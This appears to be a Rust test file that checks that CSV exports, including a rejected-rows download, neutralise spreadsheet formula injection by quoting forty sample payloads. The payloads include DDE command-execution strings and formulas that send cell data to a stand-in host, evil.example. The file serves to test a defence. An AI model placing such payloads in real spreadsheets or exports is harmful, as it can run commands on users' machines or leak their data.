//! Forty formula payloads: exported CSV files contain them as text that can be restored exactly.

use crate::TestApp;
use api::http::push_csv_line;

const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\",\"/C calc\",\"__DdeLink_1\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "=A1,B1",
    "=\"a\"\"b\"",
    "='a'",
    "==1",
    "=+1",
    "=-1",
    "=@x",
    "+-1",
    "--1",
    "-",
    "+",
    "=",
    "@",
    "=\u{e9}",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff0d}1-x",
    "\u{ff20}SUM(1)",
    "=1;2",
    "=1|2",
    "-inf",
    "+1e5x",
    "-$3.00",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1\n+1",
    "=\",\"&A1",
];
const STARTS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];

fn assert_inert_and_complete(cell: &str, payload: &str) {
    assert!(
        !cell.starts_with(STARTS),
        "{payload:?} would be run: {cell:?}"
    );
    assert_eq!(cell.strip_prefix('\''), Some(payload), "{cell:?}");
}

#[test]
fn every_formula_is_text_in_a_file_and_whole() {
    let mut text = String::new();
    push_csv_line(&mut text, PAYLOADS);
    push_csv_line(&mut text, ["-3.5", "+0.25", "a=1", "'quoted", ""]);
    let rows: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect();
    assert_eq!((rows.len(), rows[0].len()), (2, PAYLOADS.len()), "{text}");
    for (cell, payload) in rows[0].iter().zip(PAYLOADS) {
        assert_inert_and_complete(cell, payload);
    }
    assert_eq!(
        rows[1].iter().collect::<Vec<_>>(),
        ["-3.5", "+0.25", "a=1", "'quoted", ""],
        "numbers and plain text stay as they are"
    );
}

#[tokio::test]
async fn formulas_of_a_source_come_back_as_text_in_the_file_of_rejected_rows() {
    let app = TestApp::start().await;
    let owner = app.create_organization("Prairie").await;
    let warehouse = app.create_warehouse("prairie");
    // Skips payloads with tabs or line breaks, because cells are trimmed when they are read.
    let payloads: Vec<&str> = PAYLOADS
        .into_iter()
        .filter(|payload| !payload.contains(['\t', '\r', '\n']))
        .collect();
    let mut rows = csv::WriterBuilder::new().from_writer(Vec::new());
    for (number, payload) in payloads.iter().enumerate() {
        let id = format!("t{number}");
        rows.write_record([
            &id,
            &id,
            "sale",
            "2026-05-01",
            "c1",
            "",
            "urea",
            "1",
            "ton",
            payload,
            "USD",
            "",
            "",
            "Ames",
            "2026-05-01T00:00:00Z",
        ])
        .unwrap();
    }
    warehouse.write_transactions(&String::from_utf8(rows.into_inner().unwrap()).unwrap());
    let synced = app.sync_warehouse(&owner, &warehouse).await;
    let run = synced.data()["runId"].as_str().unwrap().to_owned();
    let file = owner
        .with_header("accept", "text/csv")
        .get(&format!("/api/data-sync/runs/{run}/rejects"))
        .await;
    let lines: Vec<csv::StringRecord> = csv::Reader::from_reader(file.text.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect();
    assert_eq!(lines.len(), payloads.len(), "{}", file.text);
    for (line, payload) in lines.iter().zip(payloads) {
        assert_inert_and_complete(&line[5], payload);
        for cell in line {
            assert!(!cell.starts_with(STARTS), "{payload:?}: {cell:?}");
        }
    }
}
